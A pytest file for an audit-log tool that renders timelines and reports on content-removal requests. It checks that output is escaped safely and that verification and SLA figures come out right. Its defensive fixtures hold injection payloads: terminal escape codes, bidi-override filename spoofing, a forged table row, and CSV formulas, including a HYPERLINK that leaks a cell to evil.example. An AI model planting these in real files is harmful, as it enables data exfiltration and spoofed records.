"""What the audit tools print: hostile text never lies on screen, in markdown or in a
spreadsheet; the report's removal and SLA semantics; progress only on a terminal; one timeline
renderer for the log and for the workflow's timeline query."""

from __future__ import annotations

import csv
import io
import os
import pty
import select
import subprocess
import sys
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from audit.entry import ChainHead, build_entry
from audit.report import REMOVAL_CLAIMS, build_report, parse_period_bound, render
from audit.show import render_timeline, timeline, timeline_rows
from audit.writer import AuditWriter

ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
PERIOD = (parse_period_bound("2026-03-01", end=False), parse_period_bound("2026-03-31", end=True))
FAKE_ROW = "Đã xử lý\n#9   2026-03-02 09:00:00  withdraw  awaiting_ack -> closed  tran.thi.binh"
HOSTILE_REASON = "ok \x9b31m RED \u202eevil.exe\u202c " + FAKE_ROW
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class Chain:
    def __init__(self, chain_id: str) -> None:
        self.head = ChainHead.genesis(chain_id)
        self.entries: list[dict[str, Any]] = []
        self.state: str | None = None

    def add(self, minutes: int, action: str, to: str, **kw: Any) -> Chain:
        reason = kw.pop("reason", None)
        actor = kw.pop("actor", "nguyen.van.an")
        entry, self.head = build_entry(
            self.head,
            timestamp=T0 + timedelta(minutes=minutes),
            action=action,
            from_state=self.state,
            to_state=to,
            actor_id=actor,
            actor_roles=["officer"],
            organization="Bộ Thông tin và Truyền thông",
            reason=reason,
            **kw,
        )
        self.state = to
        self.entries.append(entry)
        return self


def hostile_chain(chain_id: str, platform: str = "face|book") -> Chain:
    c = Chain(chain_id)
    c.add(
        0,
        "submit",
        "pending_approval",
        request={
            "authority": "mic",
            "platform": platform,
            "legal_bases": [{"instrument": FORMULA, "article": "5\n| fake | row |"}],
            "categories": ["-2+3", "@SUM(A1)"],
            "territorial_scope": ["VN"],
        },
        items=[{"item_id": "i1", "platform": platform, "category": "\tTAB"}],
    )
    c.add(30, "acknowledge", "acknowledged", reason=HOSTILE_REASON, actor="liaison\u202e")
    return c


def write(directory: Path, *chains: Chain) -> Path:
    w = AuditWriter(directory, host="t")
    for ch in chains:
        w.append(ch.entries, attempt=1)
    w.close()
    return directory


# -- hostile text --------------------------------------------------------------------------------


def _no_raw_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
    bad += [c for c in text if 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069]
    assert bad == [], [hex(ord(c)) for c in bad]


def test_show_prints_hostile_text_escaped_one_line_per_entry(tmp_path: Path) -> None:
    log = write(tmp_path / "log", hostile_chain("req-mic-hostile-2026"))
    run = subprocess.run(
        [sys.executable, "-m", "audit", "show", "req-mic-hostile-2026", str(log), "--wide"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    _no_raw_controls(run.stdout)
    rows = [ln for ln in run.stdout.splitlines() if ln[:1].isdigit() or ln.startswith("#")]
    assert [ln.split()[0] for ln in rows] == ["1", "2"]  # no planted "#9" row
    assert "\\x9b31m" in run.stdout and "\\u202e" in run.stdout and "\\n#9" in run.stdout
    assert "Đã xử lý" in run.stdout  # Vietnamese stays readable


def test_the_timeline_renderer_takes_the_workflow_query_entries() -> None:
    """starter's `timeline` gets entries from the workflow's query (no writer, no file)."""
    chain = hostile_chain("req-mic-query-2026")
    out = render_timeline(None, chain.entries)
    _no_raw_controls(out)
    assert out.startswith("Timeline of req-mic-query-2026: 2 entries")
    assert "all entries verify" in out and "\\n#9" in out
    assert len([ln for ln in out.splitlines() if ln[:2] in ("1 ", "2 ")]) == 2
    tampered = [dict(e) for e in chain.entries]
    tampered[1] = {**tampered[1], "user": {"id": "le.van.cuong", "roles": ["approver"]}}
    rows = timeline_rows(tampered)
    assert [r["check"] for r in rows] == ["ok", "HASH MISMATCH"]
    reordered = timeline_rows([chain.entries[1], chain.entries[0]])  # sorted by sequence
    assert [r["seq"] for r in reordered] == ["1", "2"] and all(
        r["check"] == "ok" for r in reordered
    )


def test_show_reads_the_same_rows_from_the_log(tmp_path: Path) -> None:
    chain = hostile_chain("req-mic-same-2026")
    log = write(tmp_path / "log", chain)
    from_log = timeline("req-mic-same-2026", [log])
    assert from_log == timeline_rows(chain.entries)


def test_markdown_and_csv_reports_neutralise_hostile_values(tmp_path: Path) -> None:
    log = write(tmp_path / "log", hostile_chain("req-mic-md-2026"))
    report = build_report([log], *PERIOD)
    md = render(report, "md")
    _no_raw_controls(md)
    table_rows = [ln for ln in md.splitlines() if ln.startswith("|")]
    widths = {ln.count("|") - ln.count("\\|") for ln in table_rows if "legal" not in ln}
    assert "face\\|book" in md and "| fake | row |" not in md
    assert all(w in (3, 4, 5) for w in widths), widths  # no cell split by a `|` in a value
    rows = list(csv.reader(io.StringIO(render(report, "csv"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), row
    values = {row[2] for row in rows}
    assert any(v.startswith("'" + FORMULA) for v in values)  # a text cell, not a formula
    assert "'-2+3" in values and "'@SUM(A1)" in values
    assert "'\\tTAB" in values or "\\tTAB" in values


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- report semantics ----------------------------------------------------------------------------


def removal_chain(chain_id: str, marks: dict[str, str], start: int = 0) -> Chain:
    items = [{"item_id": k, "platform": "facebook"} for k in marks]
    c = Chain(chain_id)
    c.add(start, "submit", "pending_approval", request={"platform": "facebook"}, items=items)
    c.add(
        start + 60,
        "delivered",
        "awaiting_ack",
        data={
            "sent_at": (T0 + timedelta(minutes=start)).isoformat(),  # sent 60 min before receipt
            "received_at": (T0 + timedelta(minutes=start + 60)).isoformat(),
            "due_at": (T0 + timedelta(minutes=start + 60, hours=24)).isoformat(),
        },
    )
    c.add(start + 120, "acknowledge", "acknowledged", data={})
    effects = {"a": "removed_globally", "b": "restricted", "c": "already_removed", "d": "not_found"}
    c.add(
        start + 180,
        "report_effect",
        "verifying",
        items=[
            {
                "item_id": k,
                "effect": effects[k[0]],
                "effect_at": (T0 + timedelta(minutes=start + 180)).isoformat(),
            }
            for k in marks
        ],
    )
    c.add(start + 240, "verified", "monitoring", data={"verification": marks, "disagreements": []})
    return c


def test_removals_are_counted_by_verification_status_in_both_spellings(tmp_path: Path) -> None:
    old = removal_chain(
        "req-mic-old-2026",
        {"a1": "confirmed", "a2": "inconclusive", "a3": "disagrees", "b1": "not_applicable"},
    )
    new = removal_chain(
        "req-mic-new-2026",
        {"c1": "confirmed", "d1": "unverified", "a4": "contradicted", "a5": "unverified"},
        start=600,
    )
    report = build_report([write(tmp_path / "log", old, new)], *PERIOD)
    v = report["verification"]
    assert (v["removals"], v["confirmed"], v["unverified"], v["contradicted"]) == (8, 2, 4, 2)
    assert v["by_claim"]["removed_globally"] == {"confirmed": 1, "unverified": 2, "contradicted": 2}
    assert v["by_claim"]["restricted"] == {"confirmed": 0, "unverified": 1, "contradicted": 0}
    assert v["by_claim"]["already_removed"] == {"confirmed": 1, "unverified": 0, "contradicted": 0}
    assert v["by_claim"]["not_found"] == {"confirmed": 0, "unverified": 1, "contradicted": 0}
    md = render(report, "md")
    assert "| **all** | **2** (25.0 %) | **4** (50.0 %) | **2** (25.0 %) |" in md


def test_the_last_verdict_counts(tmp_path: Path) -> None:
    c = removal_chain("req-mic-later-2026", {"a1": "inconclusive"})
    c.add(300, "recheck", "monitoring", data={"verification": {"a1": "confirmed"}})
    v = build_report([write(tmp_path / "log", c)], *PERIOD)["verification"]
    assert (v["confirmed"], v["unverified"]) == (1, 0)


def test_sla_figures_count_from_receipt(tmp_path: Path) -> None:
    """Sent 60 min before the platform's receipt (a crash delayed the delivery): the SLA
    interval counts from receipt, the send-time figure is kept and labelled apart."""
    c = removal_chain("req-mic-sla-2026", {"a1": "confirmed"})
    report = build_report([write(tmp_path / "log", c)], *PERIOD)
    d = report["durations"]
    assert d["receipt_to_ack"]["median_seconds"] == 3600.0
    assert d["send_to_ack"]["median_seconds"] == 7200.0
    assert "SLA clock" in d["receipt_to_ack"]["label"]
    assert "not the SLA clock" in d["send_to_ack"]["label"]
    assert report["sla"]["clock"].startswith("from the platform's receipt (received_at")
    assert "counted from the platform's receipt" in render(report, "md")


def test_the_report_knows_the_same_removal_claims_as_the_case() -> None:
    from docket.models import GONE_CLAIMS

    assert frozenset(REMOVAL_CLAIMS) == GONE_CLAIMS


# -- progress ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def big_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Over a mebibyte (progress is drawn from there on)."""
    directory = tmp_path_factory.mktemp("big")
    chains = [removal_chain(f"req-mic-big-{n}-2026", {"a1": "confirmed"}) for n in range(400)]
    write(directory, *chains)
    assert sum(f.stat().st_size for f in directory.iterdir()) > 1 << 20
    return directory


def _run_with_stderr_on_a_terminal(args: list[str]) -> tuple[int, str, bytes]:
    """Run the CLI with stderr on a real pseudo-terminal; read it while the command runs (a
    pseudo-terminal drops what nobody read once its last writer has gone)."""
    primary, secondary = pty.openpty()
    seen = b""
    with tempfile.TemporaryFile() as out:
        try:
            proc = subprocess.Popen(
                [sys.executable, "-m", "audit", *args], cwd=ROOT, stdout=out, stderr=secondary
            )
            os.close(secondary)
            while True:
                ready, _, _ = select.select([primary], [], [], 0.1)
                if ready:
                    try:
                        chunk = os.read(primary, 65536)
                    except OSError:  # EIO: the child closed its end
                        break
                    if not chunk:
                        break
                    seen += chunk
                elif proc.poll() is not None:
                    break
            proc.wait(timeout=120)
        finally:
            os.close(primary)
        out.seek(0)
        return proc.returncode, out.read().decode(), seen


@pytest.mark.parametrize(
    "args",
    [["verify"], ["report", "--from", "2026-03-01", "--to", "2026-03-31", "--format", "json"]],
)
def test_progress_on_a_terminal_only(big_log: Path, args: list[str]) -> None:
    code, out, terminal = _run_with_stderr_on_a_terminal([*args, str(big_log)])
    assert code == 0
    assert f"audit {args[0]}".encode() in terminal and b"B/s" in terminal
    piped = subprocess.run(
        [sys.executable, "-m", "audit", *args, str(big_log)],
        capture_output=True,
        cwd=ROOT,
        check=False,
    )
    assert piped.returncode == 0 and piped.stderr == b""
    assert piped.stdout.decode() == out  # the output itself is the same


def test_no_progress_for_a_small_log_even_on_a_terminal(tmp_path: Path) -> None:
    log = write(tmp_path / "log", removal_chain("req-mic-small-2026", {"a1": "confirmed"}))
    code, _out, terminal = _run_with_stderr_on_a_terminal(["verify", str(log)])
    assert code == 0 and terminal == b""


def test_reports_in_json_are_plain_data(tmp_path: Path) -> None:
    log = write(tmp_path / "log", removal_chain("req-mic-json-2026", {"a1": "confirmed"}))
    report = build_report([log], *PERIOD)
    assert orjson.loads(render(report, "json")) == orjson.loads(orjson.dumps(report))
